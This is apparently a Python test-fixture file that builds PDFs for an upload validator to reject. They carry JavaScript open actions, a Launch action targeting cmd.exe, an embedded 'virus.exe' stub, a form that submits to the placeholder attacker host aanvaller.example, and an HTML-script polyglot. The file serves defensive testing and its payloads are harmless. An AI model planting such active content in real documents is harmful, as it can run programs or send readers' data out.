"""Real PDF files for the upload tests, made with pypdf: a plain one, and one of each kind of
active content the upload check refuses."""

import io

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)


def _bytes(schrijver: PdfWriter) -> bytes:
    uit = io.BytesIO()
    schrijver.write(uit)
    return uit.getvalue()


def _schrijver() -> PdfWriter:
    schrijver = PdfWriter()
    schrijver.add_blank_page(width=595, height=842)
    return schrijver


def gewone_pdf() -> bytes:
    return _bytes(_schrijver())


def _actie(soort: str, **velden) -> DictionaryObject:
    actie = DictionaryObject({NameObject("/Type"): NameObject("/Action")})
    actie[NameObject("/S")] = NameObject(soort)
    for sleutel, waarde in velden.items():
        actie[NameObject(f"/{sleutel}")] = waarde
    return actie


def pdf_met_javascript() -> bytes:
    schrijver = _schrijver()
    schrijver._root_object[NameObject("/OpenAction")] = schrijver._add_object(
        _actie("/JavaScript", JS=TextStringObject("app.alert('hallo')"))
    )
    return _bytes(schrijver)


def pdf_met_javascript_in_names() -> bytes:
    schrijver = _schrijver()
    actie = schrijver._add_object(_actie("/JavaScript", JS=TextStringObject("app.alert(1)")))
    schrijver._root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("open"), actie])}
            )
        }
    )
    return _bytes(schrijver)


def pdf_met_launch() -> bytes:
    schrijver = _schrijver()
    schrijver.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _actie("/Launch", F=TextStringObject("cmd.exe"))}
    )
    return _bytes(schrijver)


def pdf_met_bijlage() -> bytes:
    schrijver = _schrijver()
    schrijver.add_attachment("virus.exe", b"MZ\x90\x00")
    return _bytes(schrijver)


def pdf_met_verzendformulier() -> bytes:
    schrijver = _schrijver()
    veld = DictionaryObject(
        {
            NameObject("/FT"): NameObject("/Btn"),
            NameObject("/T"): TextStringObject("verstuur"),
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): _actie(
                "/SubmitForm", F=TextStringObject("https://aanvaller.example/")
            ),
        }
    )
    ref = schrijver._add_object(veld)
    schrijver.pages[0][NameObject("/Annots")] = ArrayObject([ref])
    schrijver._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([ref])}
    )
    return _bytes(schrijver)


HTML_MET_PDF_KOP = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n"


def pdf_met_tekst(*paginas: str, titel: str = "Ondersteuningsplan") -> bytes:
    """A real document as WeasyPrint writes it: one page per text, with a title in its
    properties."""
    import html

    from weasyprint import HTML

    inhoud = "".join(
        f'<section style="break-after: page"><p>{html.escape(tekst)}</p></section>'
        for tekst in paginas
    )
    return HTML(
        string=f"<html lang='nl'><head><title>{html.escape(titel)}</title></head>"
        f"<body>{inhoud}</body></html>"
    ).write_pdf()
